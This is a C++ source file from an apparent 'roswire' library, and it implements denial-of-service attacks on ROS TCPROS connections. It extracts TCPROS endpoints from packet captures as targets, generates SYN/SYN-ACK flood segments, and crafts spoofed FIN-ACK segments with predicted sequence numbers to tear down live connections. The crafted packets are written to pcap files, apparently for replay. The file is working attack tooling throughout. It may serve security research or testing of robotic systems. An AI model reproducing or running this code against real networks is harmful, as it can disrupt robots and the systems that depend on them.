// Copyright 2026 roswire contributors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "roswire/tcpdos.hpp"

#include <random>

#include "roswire/pcap.hpp"
#include "roswire/tcpros.hpp"

namespace roswire::dos {

std::string flags_text(uint8_t flags) {
  std::string out;
  if (flags & flag::kFin) out += 'F';
  if (flags & flag::kSyn) out += 'S';
  if (flags & flag::kRst) out += 'R';
  if (flags & flag::kPsh) out += 'P';
  if (flags & flag::kAck) out += 'A';
  return out;
}

TargetMap extract_tcpros_targets(const std::vector<SegmentRecord>& segments) {
  TargetMap targets;
  for (const SegmentRecord& s : segments) {
    if (tcpros::looks_like_tcpros(s.payload)) {
      targets[s.src_ip].insert(s.src_port);
    }
  }
  return targets;
}

void gen_synack_flood(const FloodPlan& plan,
                      const std::function<void(const SegmentRecord&)>& sink) {
  if (plan.targets.empty()) {
    throw DosError(DosErrorKind::EmptyTargets, "flood plan has no targets");
  }
  if (plan.count == 0) {
    throw DosError(DosErrorKind::EmptyTargets, "flood plan count must be >= 1");
  }
  std::mt19937_64 rng(plan.seed);
  std::uniform_int_distribution<uint32_t> sport(1024, 65535);
  uint64_t stamp = 0;
  for (const auto& [ip, ports] : plan.targets) {
    for (uint16_t port : ports) {
      for (size_t i = 0; i < plan.count; ++i) {
        SegmentRecord s;
        s.timestamp_micros = stamp++;
        s.src_ip = plan.source_ip;
        s.dst_ip = ip;
        s.src_port = static_cast<uint16_t>(sport(rng));
        s.dst_port = port;
        s.flags = plan.syn_ack ? (flag::kSyn | flag::kAck) : flag::kSyn;
        s.seq = plan.constants.seq;
        s.ack = plan.constants.ack;
        s.ip_id = plan.constants.ip_id;
        s.ttl = plan.constants.ttl;
        sink(s);
      }
    }
  }
}

std::vector<SegmentRecord> gen_synack_flood(const FloodPlan& plan) {
  std::vector<SegmentRecord> out;
  gen_synack_flood(plan, [&](const SegmentRecord& s) { out.push_back(s); });
  return out;
}

namespace {

bool addresses_reversed(const SegmentRecord& p, const SegmentRecord& a) {
  return p.src_ip == a.dst_ip && p.dst_ip == a.src_ip &&
         p.src_port == a.dst_port && p.dst_port == a.src_port;
}

}  // namespace

std::optional<std::pair<SegmentRecord, SegmentRecord>> match_finack_pair(
    const std::vector<SegmentRecord>& segments) {
  // Latest TCPROS-carrying segment wins the data role.
  std::optional<size_t> data_index;
  for (size_t i = 0; i < segments.size(); ++i) {
    if (tcpros::looks_like_tcpros(segments[i].payload)) data_index = i;
  }
  if (!data_index) return std::nullopt;
  const SegmentRecord& p = segments[*data_index];
  for (size_t i = *data_index + 1; i < segments.size(); ++i) {
    const SegmentRecord& a = segments[i];
    if (addresses_reversed(p, a) && p.ack == a.seq) {
      return std::make_pair(p, a);
    }
  }
  return std::nullopt;
}

std::optional<SegmentRecord> FollowupRule::ack_for(
    const SegmentRecord& reply) const {
  if ((reply.flags & flag::kMask) != (flag::kFin | flag::kAck)) {
    return std::nullopt;
  }
  SegmentRecord s;
  s.timestamp_micros = reply.timestamp_micros + 1;
  s.src_ip = src_ip;
  s.dst_ip = dst_ip;
  s.src_port = src_port;
  s.dst_port = dst_port;
  s.flags = flag::kAck;
  s.seq = reply.ack;
  s.ack = reply.seq + 1;
  s.ip_id = ip_id;
  s.ttl = ttl;
  return s;
}

FinAckCraft craft_finack(const SegmentRecord& p, const SegmentRecord& a) {
  if (!addresses_reversed(p, a) || p.ack != a.seq) {
    throw DosError(DosErrorKind::InvalidPair,
                   "segments do not satisfy the five match conditions");
  }
  FinAckCraft craft;
  SegmentRecord& s = craft.attack;
  s.timestamp_micros = a.timestamp_micros + 1;
  s.src_ip = p.src_ip;
  s.dst_ip = p.dst_ip;
  s.src_port = p.src_port;
  s.dst_port = p.dst_port;
  s.flags = flag::kFin | flag::kAck;
  s.seq = a.ack;
  s.ack = a.seq;
  s.ip_id = static_cast<uint16_t>(p.ip_id + 1);  // mod 2^16 by wraparound
  s.ttl = 99;

  craft.followup = FollowupRule{p.src_ip, p.dst_ip, p.src_port,
                                p.dst_port, s.ip_id, 99};
  return craft;
}

std::vector<SegmentRecord> read_pcap(const std::string& path) {
  std::vector<pcap::Frame> frames;
  try {
    frames = pcap::read_pcap_frames(path);
  } catch (const pcap::PcapError& e) {
    throw DosError(e.kind() == pcap::PcapErrorKind::IoError
                       ? DosErrorKind::IoError
                       : DosErrorKind::NotAPcap,
                   e.what());
  }
  std::vector<SegmentRecord> out;
  for (const pcap::Frame& frame : frames) {
    auto tcp = pcap::parse_tcp_frame(frame.data);
    if (!tcp) continue;  // non-TCP frames are not segment records
    SegmentRecord s;
    s.timestamp_micros =
        static_cast<uint64_t>(frame.ts_sec) * 1000000u + frame.ts_usec;
    s.src_ip = tcp->src_ip;
    s.dst_ip = tcp->dst_ip;
    s.src_port = tcp->src_port;
    s.dst_port = tcp->dst_port;
    s.flags = tcp->flags & flag::kMask;
    s.seq = tcp->seq;
    s.ack = tcp->ack;
    s.ip_id = tcp->ip_id;
    s.ttl = tcp->ttl;
    s.payload = tcp->payload;
    out.push_back(std::move(s));
  }
  return out;
}

void write_pcap(const std::string& path,
                const std::vector<SegmentRecord>& records) {
  std::vector<pcap::Frame> frames;
  frames.reserve(records.size());
  for (const SegmentRecord& s : records) {
    pcap::TcpFields f;
    f.src_ip = s.src_ip;
    f.dst_ip = s.dst_ip;
    f.src_port = s.src_port;
    f.dst_port = s.dst_port;
    f.seq = s.seq;
    f.ack = s.ack;
    f.flags = s.flags;
    f.ip_id = s.ip_id;
    f.ttl = s.ttl;
    f.payload = s.payload;
    pcap::Frame frame;
    frame.ts_sec = static_cast<uint32_t>(s.timestamp_micros / 1000000u);
    frame.ts_usec = static_cast<uint32_t>(s.timestamp_micros % 1000000u);
    frame.data = pcap::build_tcp_frame(f);
    frames.push_back(std::move(frame));
  }
  try {
    pcap::write_pcap_frames(path, frames);
  } catch (const pcap::PcapError& e) {
    throw DosError(DosErrorKind::IoError, e.what());
  }
}

}  // namespace roswire::dos
